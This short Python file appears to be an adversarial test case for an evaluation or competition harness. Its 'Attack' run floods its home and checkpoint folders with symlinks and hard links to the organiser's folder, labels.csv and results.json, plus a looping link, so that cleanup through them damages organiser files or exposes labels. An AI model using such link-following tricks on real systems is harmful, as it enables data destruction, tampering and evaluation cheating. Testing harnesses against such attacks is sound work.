"""Fills its home with links of both kinds to the organiser's folder, for whoever clears up through them."""

import os

from aim import AIM, HOME, attempt

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        os.makedirs(f"{HOME}/checkpoint/a/b", exist_ok=True)
        for number in range(300):
            for place in (HOME, f"{HOME}/checkpoint", f"{HOME}/checkpoint/a/b"):
                attempt(os.symlink, AIM["victim"], f"{place}/folder{number}")
                attempt(os.symlink, os.path.join(AIM["victim"], "labels.csv"), f"{place}/file{number}")
        for name in ("labels.csv", "results.json"):
            attempt(os.link, os.path.join(AIM["victim"], name), f"{HOME}/{name}")
        attempt(os.symlink, HOME, f"{HOME}/checkpoint/round")
